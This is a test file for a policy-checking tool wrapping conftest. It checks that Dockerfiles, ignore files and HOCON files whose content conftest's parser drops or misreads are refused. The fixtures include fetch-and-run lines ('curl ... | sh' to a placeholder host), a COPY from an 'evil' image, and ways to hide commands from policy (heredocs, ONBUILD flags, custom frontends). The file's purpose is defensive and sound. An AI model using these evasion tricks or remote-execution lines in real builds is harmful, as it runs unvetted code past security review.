// Issue 14, sixteenth pass (inputs: conftest's formats parsed by the Go toolchain under WASI).
// Each hole is compared with conftest 0.71.1 (.toolchain/bin/conftest).
//
// - A Dockerfile heredoc's body is not in conftest's document: `RUN <<EOF` / `curl ... | sh` /
//   `EOF` reaches the policy as Value ["<<EOF"], so a policy denying `curl | sh` ALLOWed (as
//   conftest does). The same for an ONBUILD instruction's own flags (`ONBUILD COPY
//   --from=evil /x /y` keeps only the paths). What the parser reads and leaves out is what no
//   policy can deny on: the file is refused naming the line (tools/wasm/dockerdrops.go), as the
//   INI, XML, jsonc, EDN ... files that hide keys already are. So is a `# syntax=` directive
//   naming a frontend other than docker/dockerfile: BuildKit hands the file to that image, which
//   reads it as it likes, and the directive is not in the document (a policy on FROM lines
//   ALLOWed a file a custom frontend builds from anything).
// - A UTF-8 byte order mark at the start of a HOCON file is part of its first key in conftest's
//   document (`\ufeffapp`, so `input.app.debug` was undefined: ALLOW, where Typesafe Config
//   skips the mark and reads app.debug = true), and of an ignore file's first pattern (git and
//   BuildKit skip it). A document holding the mark as text is refused, naming where
//   (src/inputs/parsers/conftest.ts); formats whose parser skips the mark (TOML, dotenv...) are
//   read as before.
// - conftest's ignore parser (.gitignore, .dockerignore) unescapes a pattern byte by byte, so a
//   non-ASCII pattern reaches the policy as other characters (`secrets/ü` is "secrets/Ã¼"), and
//   splits lines on "\n" only, so a CRLF file's patterns end in "\r": a policy denying a
//   .dockerignore that ignores `.env` never matched (ALLOW), where git and BuildKit read `.env`.
//   Such a line is refused naming it (tools/wasm/ignoremisread.go).

import { test } from "uvu";
import * as assert from "uvu/assert";
import { failLinesOf, gatehouse, withRepo } from "./harness.js";

const DOCKER_POLICY = [
  "package main",
  "import rego.v1",
  'deny contains "pipes to a shell" if { some i; input[i].Cmd == "run"; contains(concat(" ", input[i].Value), "| sh") }',
  'deny contains "copies from another image" if { some i; input[i].Cmd in {"copy", "onbuild"}; some f in input[i].Flags; startswith(f, "--from=") }',
  "",
].join("\n");

test("issue 14 (sixteenth pass): a Dockerfile whose heredoc body or ONBUILD flags conftest's parser drops is refused naming the line (the policy saw RUN [\"<<EOF\"] and COPY [\"/x\", \"/y\"]: ALLOW where the build runs curl | sh); the same commands inline, or a quoted <<, are judged", () => {
  withRepo(
    "rt16-dockerfile-hidden",
    {
      "policy/p.rego": DOCKER_POLICY,
      "run/Dockerfile": "FROM alpine\nRUN <<EOF\ncurl -s http://example.invalid/x | sh\nEOF\n",
      "chomp/Dockerfile": "FROM alpine\nRUN <<-EOT bash\n\tcurl -s http://example.invalid/x | sh\n\tEOT\n",
      "copy/Dockerfile": "FROM alpine\nCOPY <<EOF /etc/profile.d/x.sh\ncurl -s http://example.invalid/x | sh\nEOF\n",
      "onbuild-heredoc/Dockerfile": "FROM alpine\nONBUILD RUN <<EOF\ncurl -s http://example.invalid/x | sh\nEOF\n",
      "onbuild-flags/Dockerfile": "FROM alpine\nONBUILD COPY --from=example.invalid/evil:latest /x /y\n",
      "inline/Dockerfile": "FROM alpine\nRUN curl -s http://example.invalid/x | sh\nCOPY --from=example.invalid/evil:latest /x /y\n",
      "quoted/Dockerfile": 'FROM alpine\nRUN echo "a <<b"\nONBUILD RUN echo hi\n',
    },
    (dir) => {
      const r = gatehouse(["check", "run/Dockerfile", "chomp/Dockerfile", "copy/Dockerfile", "onbuild-heredoc/Dockerfile", "onbuild-flags/Dockerfile", "inline/Dockerfile"], dir);
      assert.is(r.code, 1, r.stdout + r.stderr);
      assert.equal(failLinesOf(r.stdout), [
        "FAIL chomp/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOT of RUN is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
        "FAIL copy/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of COPY is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
        "FAIL inline/Dockerfile [main.deny] copies from another image",
        "FAIL inline/Dockerfile [main.deny] pipes to a shell",
        "FAIL onbuild-flags/Dockerfile [input/unparsable] dockerfile: line 2: the flags of ONBUILD COPY (--from=example.invalid/evil:latest) are not in conftest's Dockerfile document, so no policy can judge them; write the instruction without ONBUILD, or without the flags",
        "FAIL onbuild-heredoc/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of ONBUILD is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
        "FAIL run/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of RUN is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
      ]);
      const quoted = gatehouse(["check", "quoted/Dockerfile"], dir);
      assert.is(quoted.code, 0, quoted.stdout + quoted.stderr);
    },
  );
});

test("issue 14 (sixteenth pass): a Dockerfile whose syntax directive names a frontend other than docker/dockerfile (after a shebang too) is refused naming the line; docker/dockerfile and docker.io/docker/dockerfile-upstream with a tag or digest, and a '# syntax=' comment after the first instruction, are judged", () => {
  withRepo(
    "rt16-dockerfile-syntax",
    {
      "policy/p.rego": ["package main", "import rego.v1", 'deny contains "not alpine" if { some i; input[i].Cmd == "from"; input[i].Value[0] != "alpine" }', ""].join("\n"),
      "custom/Dockerfile": "# syntax=example.invalid/frontend:1\nFROM alpine\n",
      "shebang/Dockerfile": "#!/usr/bin/env buildctl\n# syntax = example.invalid/frontend\nFROM alpine\n",
      "lookalike/Dockerfile": "# syntax=docker/dockerfilex:1\nFROM alpine\n",
      "official/Dockerfile": "# syntax=docker/dockerfile:1\nFROM alpine\n",
      "upstream/Dockerfile": "# syntax=docker.io/docker/dockerfile-upstream:master@sha256:0000000000000000000000000000000000000000000000000000000000000000\nFROM alpine\n",
      "late/Dockerfile": "FROM alpine\n# syntax=example.invalid/frontend\n",
    },
    (dir) => {
      const r = gatehouse(["check", "custom/Dockerfile", "shebang/Dockerfile", "lookalike/Dockerfile", "official/Dockerfile", "upstream/Dockerfile", "late/Dockerfile"], dir);
      assert.is(r.code, 1, r.stdout + r.stderr);
      const refusal = (line: number, frontend: string) =>
        `dockerfile: line ${line}: the syntax directive hands this file to the BuildKit frontend "${frontend}", which may read it otherwise than the Dockerfile instructions a policy judges (conftest's document leaves the directive out); use docker/dockerfile, or no directive`;
      assert.equal(failLinesOf(r.stdout), [
        `FAIL custom/Dockerfile [input/unparsable] ${refusal(1, "example.invalid/frontend:1")}`,
        `FAIL lookalike/Dockerfile [input/unparsable] ${refusal(1, "docker/dockerfilex:1")}`,
        `FAIL shebang/Dockerfile [input/unparsable] ${refusal(2, "example.invalid/frontend")}`,
      ]);
    },
  );
});

test("issue 14 (sixteenth pass): a HOCON or ignore file starting with a UTF-8 byte order mark, which conftest's parser keeps in the first key or pattern (app.debug unseen: ALLOW), is refused naming where; a TOML or dotenv file with one is read as its parser reads it", () => {
  const bom = "\ufeff";
  withRepo(
    "rt16-bom",
    {
      "policy/p.rego": [
        "package main",
        "import rego.v1",
        'deny contains "debug on" if input.app.debug == true',
        'deny contains "debug on" if input.debug == true',
        'deny contains "debug on" if input.DEBUG == "true"',
        'deny contains "ignores .env" if { some e in input; e.Original == ".env" }',
        "",
      ].join("\n"),
      "app.hocon": `${bom}app {\n  debug = true\n}\n`,
      ".dockerignore": `${bom}.env\n`,
      "a.toml": `${bom}debug = true\n`,
      "b.env": `${bom}DEBUG=true\n`,
      "plain.hocon": "app {\n  debug = true\n}\n",
    },
    (dir) => {
      const r = gatehouse(["check", "app.hocon", ".dockerignore", "a.toml", "b.env", "plain.hocon"], dir);
      assert.is(r.code, 1, r.stdout + r.stderr);
      assert.equal(failLinesOf(r.stdout), [
        "FAIL .dockerignore [input/unparsable] ignore: line 1: conftest's ignore parser reads the pattern \"\\ufeff.env\" byte by byte, so its non-ASCII characters reach the policy as other characters: write the pattern in ASCII (a glob such as ? or [...] for the character)",
        "FAIL a.toml [main.deny] debug on",
        "FAIL app.hocon [input/unparsable] hocon: the file starts with a UTF-8 byte order mark, which conftest's hocon parser keeps as text (the key \"\\ufeffapp\") where readers of the format skip it, so a policy would judge a name or value no reader sees; remove the mark",
        "FAIL b.env [main.deny] debug on",
        "FAIL plain.hocon [main.deny] debug on",
      ]);
    },
  );
});

test("issue 14 (sixteenth pass): an ignore file whose pattern conftest's parser misreads (CRLF line ends kept as \\r, non-ASCII read byte by byte) is refused naming the line (the policy saw \".env\\r\" and \"secrets/Ã¼\": ALLOW where git and BuildKit ignore .env); LF ASCII patterns with non-ASCII comments are judged", () => {
  withRepo(
    "rt16-ignore",
    {
      "policy/p.rego": [
        "package main",
        "import rego.v1",
        'deny contains sprintf("ignores %s", [e.Value]) if { some e in input; e.Kind == "Path"; e.Value in {".env", "secrets/ü"} }',
        "",
      ].join("\n"),
      "crlf/.dockerignore": "node_modules\r\n.env\r\n",
      "utf8/.gitignore": "secrets/ü\n",
      "lf/.dockerignore": "# café\nnode_modules\n.env\n",
    },
    (dir) => {
      const r = gatehouse(["check", "crlf/.dockerignore", "utf8/.gitignore", "lf/.dockerignore"], dir);
      assert.is(r.code, 1, r.stdout + r.stderr);
      assert.equal(failLinesOf(r.stdout), [
        "FAIL crlf/.dockerignore [input/unparsable] ignore: line 1 ends with a carriage return, which conftest's ignore parser keeps in the pattern (\"node_modules\\r\") where git and BuildKit drop it: write the file with LF line ends",
        "FAIL lf/.dockerignore [main.deny] ignores .env",
        "FAIL utf8/.gitignore [input/unparsable] ignore: line 1: conftest's ignore parser reads the pattern \"secrets/ü\" byte by byte, so its non-ASCII characters reach the policy as other characters: write the pattern in ASCII (a glob such as ? or [...] for the character)",
      ]);
    },
  );
});

test.run();
